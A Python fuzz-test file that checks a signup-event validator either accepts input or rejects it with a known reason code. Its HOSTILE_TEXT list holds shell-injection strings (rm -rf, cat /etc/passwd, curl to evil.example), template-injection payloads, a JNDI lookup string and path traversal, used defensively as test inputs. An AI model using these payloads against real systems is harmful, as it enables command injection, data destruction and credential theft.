"""Fuzzing the signup validation (hypothesis): whatever arrives on the stream, the listener
gets a valid event or an `InvalidEvent` with a known reason code - never a crash or a hang.

Three generators, together well over 10,000 cases per run:
- raw bytes (anything a producer could XADD),
- arbitrary JSON documents,
- near-valid events: a valid event with one or more fields replaced, removed or added,
  using hostile values (shell metacharacters, templates, path traversal, long and unusual
  Unicode, lone surrogates, huge numbers, deep nesting).
"""

from __future__ import annotations

import json
import random
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from onboarding.errors import InvalidEvent
from onboarding.schema import parse_signup, validate_signup
from risk.samples import new_signup

# Every reason code the validation can give; a new one must be added here (and documented
# in docs/delivery.md) on purpose, so the dead-letter readers can filter on it.
KNOWN_REASONS = {
    "oversize",
    "not_json",
    "too_deep",
    "not_an_object",
    "missing_field",
    "unknown_schema_version",
    "unknown_field",
    "wrong_type",
    "out_of_range",
    "invalid_value",
    "invalid_timestamp",
    "schema_violation",
}

# A generous per-case deadline: a regular-expression or recursion blow-up takes seconds or
# forever, a normal validation well under a millisecond.
FUZZ = settings(
    deadline=2000,
    database=None,  # no example database left in the checkout; failures print their input
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

HOSTILE_TEXT = [
    "$(touch /tmp/pwned)",
    "`id`",
    "; rm -rf / #",
    "| cat /etc/passwd",
    "&& curl http://evil.example",
    "{{ 7 * 7 }}",
    "{% import os %}{{ os.system('id') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/dev/zero",
    "\x00",
    "\ud800",
    "\u202e\u0644\u0627\U0001f600",
    "\ufeff",
    "Z\u0351\u0352\u0353\u0354" * 200,
    "a" * 100_000,
    "\U0010ffff" * 50,
]

_valid_keys = list(new_signup(rng=random.Random(0)).keys())
_app_keys = list(new_signup(rng=random.Random(0))["application"].keys())

json_scalars = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=50)
    | st.sampled_from(HOSTILE_TEXT)
)
json_values = st.recursive(
    json_scalars,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=10), children, max_size=4),
    max_leaves=20,
)


def assert_valid_or_reasoned(payload: bytes | str | dict[str, Any]) -> None:
    try:
        if isinstance(payload, dict):
            event = validate_signup(payload)
        else:
            event = parse_signup(payload)
    except InvalidEvent as err:
        assert err.reason in KNOWN_REASONS, err.reason
        assert err.detail, "a rejection must say what is wrong"
        return
    # Accepted: every string field is valid Unicode and the event id is safe for a run id.
    assert event.event_id.isascii()
    event.user_id.encode("utf-8")
    json.dumps(event.to_dict())


@settings(FUZZ, max_examples=4000)
@given(st.binary(max_size=2048))
def test_raw_bytes_never_crash(raw: bytes) -> None:
    assert_valid_or_reasoned(raw)


@settings(FUZZ, max_examples=2000)
@given(json_values)
def test_any_json_document_never_crashes(value: Any) -> None:
    assert_valid_or_reasoned(json.dumps(value))


def _mutate(event: dict[str, Any], where: str, key: str, action: str, value: Any) -> dict[str, Any]:
    target = event if where == "top" else event["application"]
    if action == "replace":
        target[key] = value
    elif action == "delete":
        target.pop(key, None)
    else:
        target[f"{key}_extra"] = value
    return event


@settings(FUZZ, max_examples=5000)
@given(
    seed=st.integers(min_value=0, max_value=10_000),
    mutations=st.lists(
        st.tuples(
            st.sampled_from(["top", "application"]),
            st.sampled_from(_valid_keys + _app_keys),
            st.sampled_from(["replace", "replace", "replace", "delete", "add"]),
            json_values,
        ),
        min_size=1,
        max_size=3,
    ),
)
def test_near_valid_events_are_decided_or_rejected_with_a_reason(
    seed: int, mutations: list[tuple[str, str, str, Any]]
) -> None:
    event = new_signup(rng=random.Random(seed))
    for where, key, action, value in mutations:
        if where == "application" and not isinstance(event.get("application"), dict):
            continue
        event = _mutate(event, where, key, action, value)
    assert_valid_or_reasoned(event)
    # The same event as it arrives on the stream: through the JSON decoder too.
    try:
        raw = json.dumps(event, ensure_ascii=False).encode("utf-8", "surrogatepass")
    except (TypeError, ValueError):
        return
    assert_valid_or_reasoned(raw)


@settings(FUZZ, max_examples=500)
@given(depth=st.integers(min_value=1, max_value=100_000), opener=st.sampled_from(["[", '{"a":']))
def test_deep_nesting_is_rejected_not_a_crash(depth: int, opener: str) -> None:
    assert_valid_or_reasoned(opener * depth)


def test_hostile_strings_in_every_field_are_refused_or_kept_as_data() -> None:
    """Deterministic companion of the fuzz: every hostile string in every string field."""
    for text in HOSTILE_TEXT:
        for key in ("event_id", "user_id", "occurred_at"):
            event = new_signup(rng=random.Random(1))
            event[key] = text
            if key == "event_id":
                # Only letters, digits and . _ : ~ + - are allowed in event ids.
                try:
                    validate_signup(event)
                except InvalidEvent as err:
                    assert err.reason == "invalid_value"
                else:
                    raise AssertionError(f"event id {text[:40]!r} must be refused")
            else:
                assert_valid_or_reasoned(event)
        for key in _app_keys:
            event = new_signup(rng=random.Random(1))
            event["application"][key] = text
            # Every application field is an enum, a number or a boolean: free text never passes.
            try:
                validate_signup(event)
            except InvalidEvent as err:
                assert err.reason in {"invalid_value", "wrong_type"}
            else:
                raise AssertionError(f"application.{key}={text[:40]!r} must be refused")
